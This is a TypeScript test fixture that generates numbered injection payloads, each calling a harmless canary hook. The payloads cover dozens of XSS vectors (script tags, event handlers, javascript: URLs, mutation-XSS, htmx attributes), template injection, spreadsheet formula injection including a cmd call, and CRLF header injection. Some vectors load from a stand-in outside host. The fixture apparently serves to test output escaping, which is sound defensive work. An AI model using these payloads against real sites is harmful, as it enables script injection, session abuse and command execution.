/** In each hostile text, with its number behind it: whatever page shows the text is known by it. */
export const TOKEN = "zqc";
/** What a hostile text would call if it ran. */
export const HOOK = "__canary";

/** What a text runs where it runs: it calls the hook by its number. */
const TAGS: ((run: string) => string)[] = [
  (run) => `<script>${run}</script>`,
  (run) => `<ScRiPt >${run}</sCrIpT\t>`,
  (run) => `<script src="//elsewhere.example/${run}"></script>`,
  (run) => `<script/x>${run}</script`,
  (run) => `<img src=x onerror=${run}>`,
  (run) => `<img/src=x/onerror=${run}//`,
  (run) => `<img src=x onerror="${run}"`,
  (run) => `<IMG """><SCRIPT>${run}</SCRIPT>">`,
  (run) => `<svg onload=${run}>`,
  (run) => `<svg/onload=${run}>`,
  (run) => `<svg><script>${run}</script></svg>`,
  (run) => `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  (run) => `<svg><a xlink:href="javascript:${run}"><text y=9>x</text></a></svg>`,
  (run) => `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
  (run) => `<math href="javascript:${run}">x</math>`,
  (run) => `<body onload=${run}>`,
  (run) => `<iframe src="javascript:${run}"></iframe>`,
  (run) => `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  (run) => `<object data="javascript:${run}"></object>`,
  (run) => `<embed src="javascript:${run}">`,
  (run) => `<video><source onerror=${run}></video>`,
  (run) => `<audio src=x onerror=${run}>`,
  (run) => `<details open ontoggle=${run}>`,
  (run) => `<input autofocus onfocus=${run}>`,
  (run) => `<select autofocus onfocus=${run}>`,
  (run) => `<marquee onstart=${run}>`,
  (run) => `<p style="animation-name:x" onanimationstart=${run}>`,
  (run) => `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  (run) => `<base href="//elsewhere.example/${run}/">`,
  (run) => `<link rel=stylesheet href="//elsewhere.example/${run}.css">`,
  (run) => `<form action="javascript:${run}"><button autofocus>x`,
  (run) => `<button formaction="javascript:${run}">x</button>`,
  (run) => `<a href="javascript:${run}">x</a>`,
  (run) => `<a href="data:text/html,<script>${run}</script>">x</a>`,
  (run) => `<style>@import "//elsewhere.example/${run}.css"</style>`,
  (run) => `<div style="background:url(//elsewhere.example/${run})">`,
  (run) => `<template><img src=x onerror=${run}></template>`,
  (run) => `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  (run) => `</title><script>${run}</script>`,
  (run) => `</textarea><script>${run}</script>`,
  (run) => `</script><script>${run}</script>`,
  (run) => `</style><script>${run}</script>`,
  (run) => `</xmp></noscript></template><script>${run}</script>`,
  (run) => `--><script>${run}</script><!--`,
  (run) => `<!--><img src=x onerror=${run}>-->`,
  (run) => `]]><script>${run}</script>`,
  (run) => `<![CDATA[><script>${run}</script>]]>`,
  (run) => `<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">${run}</script>`,
  (run) => `<b ${run}>bold</b ${run}>`,
  (run) => `<x-${run}>`,
  (run) => `<x-island name="feedback-panel" props="${run}" wake="load"></x-island>`,
  (run) => `<hx-partial hx-target="#toasts" hx-swap="innerHTML">${run}</hx-partial>`,
  (run) => `<div hx-get="/logout?${run}" hx-trigger="load"></div>`,
  (run) => `<div hx-on:click="${run}" hx-on::load="${run}">x</div>`,
];

const BREAKS: ((run: string) => string)[] = [
  (run) => `" onmouseover="${run}" x="`,
  (run) => `' onmouseover='${run}' x='`,
  (run) => `\` onmouseover=${run} x=\``,
  (run) => `" autofocus onfocus=${run} x="`,
  (run) => `x onfocus=${run} autofocus`,
  (run) => `"><img src=x onerror=${run}>`,
  (run) => `'><img src=x onerror=${run}>`,
  (run) => `\\"><img src=x onerror=${run}>`,
  (run) => `&quot;><img src=x onerror=${run}>`,
  (run) => `" style="animation:x" onanimationstart="${run}`,
  (run) => `" hx-on:click="${run}`,
  (run) => `" hx-get="/logout" hx-trigger="load" x="${run}`,
  (run) => `" hx-vals="js:{x:${run}}`,
  (run) => `js:{x:${run}}`,
  (run) => `click[${run}]`,
  (run) => `" href="javascript:${run}`,
  (run) => `javascript:${run}`,
  (run) => `JaVaScRiPt:${run}`,
  (run) => `java\tscript:${run}`,
  (run) => ` javascript:${run}`,
  (run) => `javascript://%0a${run}`,
  (run) => `data:text/html,<script>${run}</script>`,
  (run) => `data:text/html;base64,PHNjcmlwdD4=${run}`,
  (run) => `vbscript:${run}`,
  (run) => `//elsewhere.example/${run}`,
  (run) => `/\\elsewhere.example/${run}`,
  (run) => `https://elsewhere.example/${run}`,
  (run) => `';${run}//`,
  (run) => `";${run}//`,
  (run) => `\\';${run}//`,
  (run) => `"-${run}-"`,
  (run) => `\u2028${run}\u2029`,
  (run) => `"},"x":{"y":"${run}`,
  (run) => `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  (run) => `{"__proto__":{"x":"${run}"}}`,
];

const OTHERS: ((run: string) => string)[] = [
  (run) => `{{constructor.constructor('${run}')()}}`,
  (run) => `\${${run}}`,
  (run) => `<%= ${run} %>`,
  (run) => `#{${run}}`,
  (run) => `{% ${run} %}`,
  (run) => `[[${run}]]`,
  (run) => `{{{${run}}}}`,
  (run) => `&lt;script&gt;${run}&lt;/script&gt;`,
  (run) => `&#60;script&#62;${run}&#60;/script&#62;`,
  (run) => `&#x3c;img src=x onerror=${run}&#x3e;`,
  (run) => `&amp;lt;script&amp;gt;${run}`,
  (run) => `%3Cscript%3E${run}%3C/script%3E`,
  (run) => `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  (run) => `\uff1cscript\uff1e${run}\uff1c/script\uff1e`,
  (run) => `\ufe64script\ufe65${run}`,
  (run) => `<\u0338script>${run}`,
  (run) => `\u202e>tpircs<${run}`,
  (run) => `\u2066${run}\u2069\u200b\ufeff`,
  (run) => `<\0script>${run}</script>`,
  (run) => `\0<img src=x onerror=${run}>`,
  (run) => `\ud83d<script>${run}</script>`,
  (run) => `\u001b[2J${run}\u0007`,
  (run) => `=cmd|' /C ${run}'!A0`,
  (run) => `=HYPERLINK("https://elsewhere.example/${run}")`,
  (run) => `@SUM(1+1)*cmd|'${run}'!A0`,
  (run) => `+1+1|${run}`,
  (run) => `-2+3+${run}`,
  (run) => `\t=1+${run}`,
  (run) => `\r=1+${run}`,
  (run) => `\n=1+${run}`,
  (run) => ` =1+${run}`,
  (run) => `"=1+${run}`,
  (run) => `'=1+${run}`,
  (run) => `\uff1d1+${run}`,
  (run) => `|${run}`,
  (run) => `%0a=1+${run}`,
  (run) => `x",=1+${run},"`,
  (run) => `x;=1+${run};`,
  (run) => `x\r\n=1,${run}`,
  (run) => `x\r\nSet-Cookie: ${run}=1`,
  (run) => `x\r\n\r\n<script>${run}</script>`,
  (run) => `%0d%0aSet-Cookie:%20${run}=1`,
];

const BASES = [...TAGS, ...BREAKS, ...OTHERS];
/** The same among other words, because what is cut, trimmed or looked for at the beginning of a text is another then. */
const AROUND: ((text: string) => string)[] = [
  (text) => text,
  (text) => `Maeve ${text}`,
  (text) => `${text} Kelly`,
  (text) => `">${text}`,
];

/** How many different texts there are. */
export const HOSTILE_TEXTS = BASES.length * AROUND.length;

/** The text of a number. In one row of `BASES.length` texts there is one of each kind. */
export function hostileText(n: number): string {
  const base = BASES[n % BASES.length]!;
  const around = AROUND[Math.floor(n / BASES.length) % AROUND.length]!;
  return around(base(`${HOOK}(${n})/*${tokenOf(n)}*/`));
}

export const tokenOf = (n: number): string => `${TOKEN}${n}q`;

/** The tokens of the hostile texts that stand in a text. */
export const tokensIn = (text: string): string[] => text.match(/zqc\d+q/g) ?? [];
